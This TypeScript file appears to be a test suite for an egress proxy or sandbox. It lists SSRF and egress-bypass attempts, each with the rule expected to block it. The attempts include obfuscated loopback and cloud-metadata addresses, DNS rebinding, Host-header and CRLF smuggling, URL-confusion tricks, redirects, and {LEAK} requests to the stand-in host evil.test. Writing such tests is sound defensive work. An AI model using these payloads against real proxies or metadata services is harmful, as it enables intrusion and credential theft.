import type { Attack, Step } from '../attack.ts';
import { connectTo, numbered, request, toProxy, toWeb } from './steps.ts';

/** Spellings of the host's loopback, with what refuses each: a rule, or the syntax that only one spelling has. */
const LOOPBACK: readonly (readonly [string, string])[] = [
  ['127.0.0.1', 'network.near'],
  ['127.8.8.8', 'network.near'],
  ['localhost', 'network.unlisted'],
  ['LOCALHOST.', 'network.unlisted'],
  ['127.1', 'network.malformed'],
  ['127.0.1', 'network.malformed'],
  ['0x7f000001', 'network.malformed'],
  ['0x7f.1', 'network.malformed'],
  ['2130706433', 'network.malformed'],
  ['017700000001', 'network.malformed'],
  ['0177.0.0.1', 'network.malformed'],
  ['127.0.0.1.', 'network.near'],
  ['127.0.0.1%00.allowed.test', 'network.malformed'],
  ['0.0.0.0', 'network.near'],
  ['0', 'network.malformed'],
  ['[::1]', 'network.near'],
  ['[::]', 'network.near'],
  ['[0:0:0:0:0:0:0:1]', 'network.near'],
  ['[::1%lo]', 'network.malformed'],
  ['[::ffff:127.0.0.1]', 'network.near'],
  ['[::ffff:7f00:1]', 'network.near'],
  ['[::127.0.0.1]', 'network.near'],
  ['[64:ff9b::7f00:1]', 'network.near'],
  ['[2002:7f00:1::]', 'network.near'],
  ['[::ffff:0:127.0.0.1]', 'network.near'],
  ['[64:ff9b:1::7f00:1]', 'network.near'],
  ['[64:ff9b:1:fffe::7f00:1]', 'network.near'],
  ['[2001:0:4136:e378:8000:63bf:80ff:fffe]', 'network.near'],
  ['[::7f00:1]', 'network.near'],
  ['0127.0.0.1', 'network.malformed'],
  ['127.0.0.0x1', 'network.malformed'],
  ['127.0.0.1#@allowed.test', 'network.malformed'],
  ['127.0.0.1\\\\allowed.test', 'network.malformed'],
  ['127。0。0。1', 'network.malformed'],
  ['①②⑦.⓪.⓪.①', 'network.malformed'],
];

const METADATA: readonly (readonly [string, string])[] = [
  ['169.254.169.254', 'network.metadata'],
  ['[::ffff:169.254.169.254]', 'network.metadata'],
  ['[::ffff:a9fe:a9fe]', 'network.metadata'],
  ['[64:ff9b::a9fe:a9fe]', 'network.metadata'],
  ['[fd00:ec2::254]', 'network.metadata'],
  ['100.100.100.200', 'network.metadata'],
  ['169.254.170.2', 'network.metadata'],
  ['0xa9fea9fe', 'network.malformed'],
  ['2852039166', 'network.malformed'],
  ['0251.0376.0251.0376', 'network.malformed'],
  ['169.254.43518', 'network.malformed'],
  ['metadata.google.internal', 'network.unlisted'],
];

const NEAR: readonly string[] = [
  '10.1.2.3',
  '172.16.0.9',
  '192.168.1.1',
  '169.254.7.7',
  '[fd00:ec2::99]',
  '[fe80::1]',
  '203.0.113.66',
];

/** Names that rules allow and that lead where no rule leads. */
const LEADS: readonly (readonly [string, string])[] = [
  ['meta.lead.test', 'the metadata service'],
  ['near.lead.test', "the host's loopback"],
  ['zero.lead.test', '0.0.0.0'],
  ['private.lead.test', 'a private address'],
  ['mapped.lead.test', 'the metadata service, mapped into IPv6'],
  ['six.lead.test', 'the metadata service over IPv6'],
  ['alias.lead.test', 'another host, by CNAME'],
];

const REBOUND: Step = {
  kind: 'tls',
  to: 'rebind-tls.lead.test:443',
  name: 'rebind-tls.lead.test',
  pieces: [request('GET /tls HTTP/1.1', 'Host: rebind-tls.lead.test', 'Connection: close')],
};

export const destinations: readonly Attack[] = numbered('D', 'destination', [
  { what: 'CONNECT to another host', step: connectTo('evil.test:80'), stopped: 'network.unlisted' },
  { what: 'CONNECT to another port of the allowed host', step: connectTo('allowed.test:22'), stopped: 'network.unlisted' },
  { what: 'CONNECT to port 0', step: connectTo('allowed.test:0'), stopped: 'network.malformed' },
  { what: 'CONNECT to a port beyond the last', step: connectTo('allowed.test:65616'), stopped: 'network.malformed' },
  { what: 'CONNECT without a port', step: connectTo('allowed.test'), stopped: 'network.malformed' },
  { what: 'CONNECT to the address of a host that is not allowed', step: connectTo('203.0.113.66:80'), stopped: 'network.near' },
  { what: 'CONNECT to another port of an allowed address', step: connectTo('203.0.113.10:22'), stopped: 'network.near' },
  ...LOOPBACK.map(([host, stopped]) => ({ what: `CONNECT to the loopback as ${host}`, step: connectTo(`${host}:80`), stopped })),
  ...METADATA.map(([host, stopped]) => ({ what: `CONNECT to metadata as ${host}`, step: connectTo(`${host}:80`), stopped })),
  ...NEAR.map((host) => ({ what: `CONNECT to ${host}`, step: connectTo(`${host}:80`), stopped: 'network.near' })),
  ...LEADS.map(([host, what]) => ({
    what: `an allowed name leads to ${what}`,
    step: toProxy(`GET http://${host}/{LEAK} HTTP/1.1`, host),
    stopped: 'network.address',
  })),
  {
    what: 'the same by CONNECT, for TLS',
    step: {
      kind: 'tls',
      to: 'meta.lead.test:443',
      name: 'meta.lead.test',
      pieces: [request('GET /{LEAK} HTTP/1.1', 'Host: meta.lead.test')],
    },
    stopped: ['network.address', '[closed]'],
  },
  {
    what: 'a name changes its address between two requests (re-binding)',
    step: {
      kind: 'write',
      pieces: [
        request('GET http://rebind.lead.test/first HTTP/1.1', 'Host: rebind.lead.test'),
        request('GET http://rebind.lead.test/second HTTP/1.1', 'Host: rebind.lead.test', 'Connection: close'),
      ],
      pause: 200,
    },
    // The connection that was checked is kept; what may not happen is a second look that is not checked.
    stopped: ['network.address', 'hello /second'],
  },
  {
    what: 'the same on connections of their own',
    step: {
      kind: 'both',
      steps: [REBOUND, REBOUND],
    },
    stopped: 'network.address',
  },
  {
    what: 'a name has an allowed address and a forbidden one; the allowed one does not answer',
    step: toProxy('GET http://both.lead.test/{LEAK} HTTP/1.1', 'both.lead.test'),
    stopped: 'network.unreachable',
  },
  { what: 'a name that begins like the allowed one', step: connectTo('allowed.test.evil.test:80'), stopped: 'network.unlisted' },
  { what: 'a name that ends like the allowed one', step: connectTo('notallowed.test:80'), stopped: 'network.unlisted' },
  { what: 'a name below the allowed one', step: connectTo('sub.allowed.test:80'), stopped: 'network.unlisted' },
  { what: 'the parent of a wildcard', step: connectTo('lead.test:80'), stopped: 'network.unlisted' },
  { what: 'a look-alike in punycode', step: connectTo('xn--llowed-4nf.test:80'), stopped: 'network.unlisted' },
  { what: 'a look-alike in UTF-8', step: connectTo('\u0430llowed.test:80'), stopped: 'network.malformed' },
  { what: 'a name with a soft hyphen', step: connectTo('allowed\u00ad.test:80'), stopped: 'network.malformed' },
  { what: 'a name with full-width letters', step: connectTo('\uff41llowed.test:80'), stopped: 'network.malformed' },
  { what: 'a name with an ideographic full stop', step: connectTo('evil\u3002allowed.test:80'), stopped: 'network.malformed' },
  { what: 'a name with a zero byte', step: connectTo('evil.test\0.allowed.test:80'), stopped: 'network.malformed' },
  { what: 'a name with two last dots', step: connectTo('allowed.test..:80'), stopped: 'network.malformed' },
  { what: 'a name with percent signs', step: connectTo('evil.test%2f.allowed.test:80'), stopped: 'network.malformed' },
  { what: 'a name with an asterisk', step: connectTo('*.lead.test:80'), stopped: 'network.malformed' },
  { what: 'CONNECT with userinfo', step: connectTo('allowed.test:80@evil.test:80'), stopped: 'network.malformed' },
  { what: 'CONNECT with two targets', step: connectTo('allowed.test:80 evil.test:80'), stopped: 'network.malformed' },
  {
    what: 'CONNECT to evil, Host says allowed',
    step: connectTo('evil.test:80', 'allowed.test:80'),
    stopped: 'network.malformed',
  },
  {
    what: 'CONNECT to allowed, Host says evil',
    step: connectTo('allowed.test:80', 'evil.test:80'),
    stopped: 'network.malformed',
  },
  {
    what: 'CONNECT to allowed, two Hosts',
    step: connectTo('allowed.test:80', 'allowed.test\r\nHost: evil.test'),
    stopped: 'network.malformed',
  },
  { what: 'CONNECT to the proxy itself (chaining)', step: connectTo('198.18.0.1:3128'), stopped: 'network.near' },
  { what: "CONNECT to the proxy's listener", step: connectTo('198.18.0.1:1'), stopped: 'network.near' },
  { what: 'CONNECT to the resolver', step: connectTo('198.18.0.1:53'), stopped: 'network.near' },
  {
    what: 'CONNECT in a connection to the allowed host',
    step: toWeb(request('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80')),
    stopped: 'network.malformed',
  },
  {
    what: 'an absolute URI of another host',
    step: toProxy('GET http://evil.test/{LEAK} HTTP/1.1', 'evil.test'),
    stopped: 'network.unlisted',
  },
  {
    what: 'an absolute URI of another host, Host says allowed',
    step: toProxy('GET http://evil.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'an absolute URI of the allowed host, Host says evil',
    step: toProxy('GET http://allowed.test/{LEAK} HTTP/1.1', 'evil.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'an absolute URI with userinfo',
    step: toProxy('GET http://allowed.test@evil.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'an absolute URI with a backslash',
    step: toProxy('GET http://evil.test\\@allowed.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: ['network.mismatch', 'network.malformed'],
  },
  {
    what: 'an absolute URI with a fragment',
    step: toProxy('GET http://evil.test#@allowed.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: ['network.mismatch', 'network.malformed'],
  },
  {
    what: 'an absolute URI with a tab in the host',
    step: toProxy('GET http://evil.test\t.allowed.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: 'network.malformed',
  },
  {
    what: 'an absolute URI, decimal address',
    step: toProxy('GET http://2852039166/{LEAK} HTTP/1.1', '2852039166'),
    stopped: 'network.mismatch',
  },
  {
    what: 'https asked of the proxy in plain',
    step: toProxy('GET https://evil.test/{LEAK} HTTP/1.1', 'evil.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'ftp asked of the proxy',
    step: toProxy('GET ftp://allowed.test/{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'gopher asked of the proxy',
    step: toProxy('GET gopher://allowed.test/_{LEAK} HTTP/1.1', 'allowed.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'a path without a host asked of the proxy',
    step: toProxy('GET /{LEAK} HTTP/1.1', 'evil.test'),
    stopped: 'network.mismatch',
  },
  {
    what: 'a redirect to another host',
    step: { kind: 'shell', needs: 'curl', command: 'curl -sSL -m 3 http://allowed.test/to-evil' },
    stopped: 'network.unlisted',
  },
  {
    what: 'a redirect to the metadata service',
    step: { kind: 'shell', needs: 'curl', command: 'curl -sSL -m 3 http://allowed.test/to-metadata' },
    stopped: 'network.metadata',
  },
  {
    what: 'a redirect to another port',
    step: { kind: 'shell', needs: 'curl', command: 'curl -sSL -m 3 http://allowed.test/to-port' },
    stopped: 'network.unlisted',
  },
  {
    what: 'a redirect in two hops',
    step: { kind: 'shell', needs: 'curl', command: 'curl -sSL -m 3 http://allowed.test/to-hop' },
    stopped: 'network.unlisted',
  },
  {
    what: 'a rule for one program, used by another',
    step: toProxy('GET http://curl.test/{LEAK} HTTP/1.1', 'curl.test'),
    stopped: 'network.unlisted',
  },
  {
    what: 'a copy of the program that a rule is for',
    step: { kind: 'shell', needs: 'curl', command: 'cp "$(command -v curl)" ./curl && ./curl -sS -m 3 http://curl.test/{LEAK}' },
    stopped: 'network.unlisted',
  },
]);
